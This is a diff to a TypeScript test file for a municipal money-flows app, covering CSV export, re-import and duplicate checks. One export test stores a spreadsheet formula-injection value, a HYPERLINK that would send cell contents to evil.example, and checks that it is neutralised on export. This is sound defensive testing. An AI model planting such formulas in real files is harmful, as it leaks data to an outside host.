@@ -34,6 +34,18 @@ describeEachEngine('money flows', (engine) => {
   const record = (a: Agent, fields: Record<string, string> = {}, code = n1) => a.postForm(`/reactiedorp/gebieden/${code}/geldstromen/nieuw`, flow(fields));
   const page = (query = '?jaar=2024', a: Agent = w.as.anonymous, code = n1) => a.get(`/reactiedorp/gebieden/${code}/geldstromen${query}`);
 
+  /** The import page's file field, as a browser sends a chosen file. */
+  const upload = async (a: Agent, bytes: Uint8Array) => {
+    const boundary = 'geldstromen-grens';
+    const field = (name: string, value: string) => `--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
+    const payload = Buffer.concat([
+      Buffer.from(field('_csrf', await a.csrfToken()) + field('csv', '')),
+      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="geldstromen.csv"\r\nContent-Type: text/csv\r\n\r\n`),
+      Buffer.from(bytes), Buffer.from(`\r\n--${boundary}--\r\n`),
+    ]);
+    return a.request({ method: 'POST', url: '/reactiedorp/beheer/geldstromen', payload, headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } });
+  };
+
   beforeEach(async () => {
     w = await openModerationWorld(engine);
     const sys = { platform: w.tp.platform, actor: system, tenant: null, locale: 'nl' as const };
@@ -167,16 +179,6 @@ describeEachEngine('money flows', (engine) => {
   });
 
   it('imports an uploaded file, and refuses one that is not UTF-8 text', async () => {
-    const upload = async (a: Agent, bytes: Uint8Array) => {
-      const boundary = 'geldstromen-grens';
-      const field = (name: string, value: string) => `--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
-      const payload = Buffer.concat([
-        Buffer.from(field('_csrf', await a.csrfToken()) + field('csv', '')),
-        Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="geldstromen.csv"\r\nContent-Type: text/csv\r\n\r\n`),
-        Buffer.from(bytes), Buffer.from(`\r\n--${boundary}--\r\n`),
-      ]);
-      return a.request({ method: 'POST', url: '/reactiedorp/beheer/geldstromen', payload, headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } });
-    };
     const text = `year;area_code;source;purpose;amount_eur;method;certainty\n2024;${n1};subsidies;Speeltuin;1.500,00;Beschikking;gemeten\n`;
     expect((await upload(olga, new TextEncoder().encode(text))).statusCode).toBe(303);
     expect((await w.tp.platform.db.selectFrom('money_flows').select('amount_cents').executeTakeFirstOrThrow()).amount_cents).toBe(150_000);
@@ -199,5 +201,98 @@ describeEachEngine('money flows', (engine) => {
     const created = await olga.api('POST', `/api/v1/reactiedorp/areas/${n1}/money-flows`, { year: 2024, source: 'other', purpose: 'Buurtfonds', amountCents: 123, method: 'Begroting', certainty: 'measured' });
     expect(created.statusCode).toBe(201);
     expect((await w.as.anna.api('POST', `/api/v1/reactiedorp/areas/${n1}/money-flows`, { year: 2024, source: 'other', purpose: 'x', amountCents: 1, method: 'x', certainty: 'measured' })).statusCode).toBe(403);
+  });
+  it('exports an area\'s flows and the municipality\'s as the file the import reads, publicly, with texts that never run as formulas', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")';
+    expect((await record(olga, { purpose: formula, amount: '0,01', method: '- eerst tellen\r\n- dan vermenigvuldigen', figureSource: '+31 20 1234567' })).statusCode).toBe(303);
+    expect((await record(olga, { source: 'youth', purpose: 'Jeugdhulp; "ambulant"', amount: '1234567,89', certainty: 'measured', method: '@werkwijze' })).statusCode).toBe(303);
+    expect((await record(olga, { year: '2023', purpose: '-', amount: '1.000.000' })).statusCode).toBe(303);
+    expect((await record(olga, { purpose: 'Wijkteam', amount: '50' }, n2)).statusCode).toBe(303);
+    const area = await w.as.anonymous.get(`${base}.csv`);
+    expect(area.statusCode).toBe(200);
+    expect(area.headers['content-type']).toBe('text/csv; charset=utf-8');
+    expect(area.headers['content-disposition']).toBe(`attachment; filename="geldstromen-reactiedorp-${n1}.csv"; filename*=UTF-8''geldstromen-reactiedorp-${n1}.csv`);
+    expect([...area.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    expect(area.body).toBe([
+      '\uFEFFyear;area_code;source;purpose;amount_eur;method;certainty;figure_source',
+      `2023;${n1};wmo;'-;1000000,00;Beschikkingen maal tarief;estimated;`,
+      `2024;${n1};wmo;"'=HYPERLINK(""http://evil.example/?d=""&A1,""Klik"")";0,01;"'- eerst tellen\r\n- dan vermenigvuldigen";estimated;'+31 20 1234567`,
+      `2024;${n1};youth;"Jeugdhulp; ""ambulant""";1234567,89;'@werkwijze;measured;`,
+      '',
+    ].join('\r\n'));
+    const year = await w.as.anonymous.get(`${base}.csv?jaar=2023`);
+    expect(year.headers['content-disposition']).toContain(`filename="geldstromen-reactiedorp-${n1}-2023.csv"`);
+    expect(year.body.split('\r\n').slice(1, -1)).toEqual([`2023;${n1};wmo;'-;1000000,00;Beschikkingen maal tarief;estimated;`]);
+    const all = await w.as.anonymous.get('/reactiedorp/geldstromen.csv');
+    expect(all.statusCode).toBe(200);
+    expect(all.headers['content-disposition']).toContain('attachment; filename="geldstromen-reactiedorp.csv"');
+    expect(all.body).toBe(`${area.body}2024;${n2};wmo;Wijkteam;50,00;Beschikkingen maal tarief;estimated;\r\n`);
+    // The same files through the API (open data), and the links to them.
+    expect((await w.as.anonymous.get(`/api/v1/reactiedorp/areas/${n1}/money-flows.csv`)).body).toBe(area.body);
+    const api = await w.as.anonymous.get('/api/v1/reactiedorp/money-flows.csv?year=2023');
+    expect(api.headers['content-type']).toBe('text/csv; charset=utf-8');
+    expect(api.body).toBe(year.body);
+    const html = (await page()).body;
+    expect(html).toContain(`<a class="utrecht-link" href="${base}.csv">Download als CSV</a>: alle jaren van dit gebied`);
+    expect(html).toContain('<a class="utrecht-link" href="/reactiedorp/geldstromen.csv">Alle geldstromen van Gemeente Reactiedorp als CSV</a>');
+    expect((await w.as.anonymous.get(`${base}?lang=en`)).body).toContain(`<a class="utrecht-link" href="${base}.csv">Download as CSV</a>`);
+    expect((await olga.get('/reactiedorp/beheer/geldstromen')).body).toContain('<a class="utrecht-link" href="/reactiedorp/geldstromen.csv">Download alle geldstromen als CSV</a>');
+    // Empty: the header line alone. Unknown places: not found.
+    expect((await w.as.anonymous.get('/anderdorp/geldstromen.csv')).body).toBe('\uFEFFyear;area_code;source;purpose;amount_eur;method;certainty;figure_source\r\n');
+    expect((await w.as.anonymous.get(`/anderdorp/gebieden/${n1}/geldstromen.csv`)).statusCode).toBe(404);
+    expect((await w.as.anonymous.get('/reactiedorp/gebieden/BU99990101/geldstromen.csv')).statusCode).toBe(404);
+    expect((await w.as.anonymous.get('/nergensdorp/geldstromen.csv')).statusCode).toBe(404);
+  });
+
+  it('imports its own export again without changing anything (no ids, dates or authors), and takes an edited export as changes in place', async () => {
+    await record(olga, { purpose: '=1+1', method: '- eerst tellen\r\n- dan vermenigvuldigen', figureSource: '@bron' });
+    await record(olga, { source: 'youth', purpose: "'=al een apostrof", amount: '1234567,89', certainty: 'rough', method: '"Gequote" methode; met puntkomma' });
+    await record(olga, { year: '2023', purpose: 'Café Ünïcode €', amount: '0,05' });
+    await record(olga, { source: 'zvw', purpose: 'Gaat weg', amount: '3' });
+    await record(olga, { purpose: 'Wijkteam', amount: '100' }, n2);
+    // The municipality as a whole has a page, so it takes flows too; its export imports again.
+    expect((await record(olga, { source: 'subsidies', purpose: 'Stadsbreed', amount: '1' }, w.a.cbsCode)).statusCode).toBe(303);
+    const rows = () => w.tp.platform.db.selectFrom('money_flows').selectAll().orderBy('id').execute();
+    const before = await rows();
+    expect(before).toHaveLength(6);
+    const file = await w.as.anonymous.get('/reactiedorp/geldstromen.csv');
+    // As the file a browser saved (bytes with the BOM), and as text pasted or sent to the API.
+    expect((await upload(olga, new Uint8Array(file.rawPayload))).statusCode).toBe(303);
+    expect(await rows()).toEqual(before);
+    expect((await olga.postForm('/reactiedorp/beheer/geldstromen', { csv: file.body })).statusCode).toBe(303);
+    const areaFile = (await w.as.anonymous.get(`${base}.csv`)).body;
+    expect((await olga.api('POST', '/api/v1/reactiedorp/money-flows/import', { csv: areaFile })).json()).toEqual({ flows: 4, areasAndYears: 2, replaced: 4, totalCents: 412_500_00 + 1_234_567_89 + 3_00 + 5 });
+    expect(await rows()).toEqual(before);
+    expect((await w.as.anonymous.get('/reactiedorp/geldstromen.csv')).body).toBe(file.body);
+    const audits = await readAudit(w.tp.platform.db, { action: 'moneyFlow.import' });
+    expect(audits).toHaveLength(3);
+    for (const audit of audits) expect(audit.after).toMatchObject({ added: 0, changed: 0, deleted: 0 });
+    // Edited in a spreadsheet: one amount changed, one line gone, one new; the changed flow keeps its id, the other years stay.
+    const lines = areaFile.split('\r\n');
+    const changedLine = lines.findIndex((l) => l.startsWith(`2024;${n1};youth;`));
+    lines[changedLine] = lines[changedLine]!.replace('1234567,89', '1234567,90');
+    const edited = lines.filter((l) => !l.startsWith(`2024;${n1};zvw;Gaat weg;`)).join('\r\n') + `2024;${n1};other;Nieuw;7;Telling;gemeten;\r\n`;
+    expect((await olga.postForm('/reactiedorp/beheer/geldstromen', { csv: edited })).statusCode).toBe(303);
+    const after = await rows();
+    const youth = before.find((r) => r.source === 'youth')!;
+    expect(after.find((r) => r.id === youth.id)).toMatchObject({ amount_cents: 123_456_790, purpose: youth.purpose, created_at: youth.created_at });
+    expect(after.some((r) => r.purpose === 'Gaat weg')).toBe(false);
+    const untouched = (r: { purpose: string }) => ['=1+1', 'Café Ünïcode €', 'Wijkteam', 'Stadsbreed'].includes(r.purpose);
+    expect(after.filter(untouched)).toEqual(before.filter(untouched));
+    expect(after.find((r) => r.purpose === 'Nieuw')).toMatchObject({ amount_cents: 700, certainty: 'measured' });
+    expect(after).toHaveLength(before.length);
+  });
+
+  it('refuses a second flow from the same source to the same purpose in an area and year, which the import file could not hold', async () => {
+    expect((await record(olga)).statusCode).toBe(303);
+    const twin = await record(olga, { purpose: 'HUISHOUDELIJKE HULP', amount: '5' });
+    expect(twin.statusCode).toBe(422);
+    expect(twin.body).toContain('href="#field-purpose">Bestemming of organisatie: Voor dit gebied is er in 2024 al een geldstroom uit deze bron naar deze bestemming.');
+    expect((await record(olga, { source: 'youth' })).statusCode).toBe(303);
+    expect((await record(olga, { year: '2025' })).statusCode).toBe(303);
+    const youth = await w.tp.platform.db.selectFrom('money_flows').select('id').where('source', '=', 'youth').executeTakeFirstOrThrow();
+    expect((await olga.postForm(`${base}/${youth.id}/bewerken`, flow({ source: 'wmo' }))).statusCode).toBe(422);
+    expect((await olga.postForm(`${base}/${youth.id}/bewerken`, flow({ source: 'youth', amount: '1' }))).statusCode).toBe(303);
+    expect(await w.tp.platform.db.selectFrom('money_flows').select('id').execute()).toHaveLength(3);
   });
 });
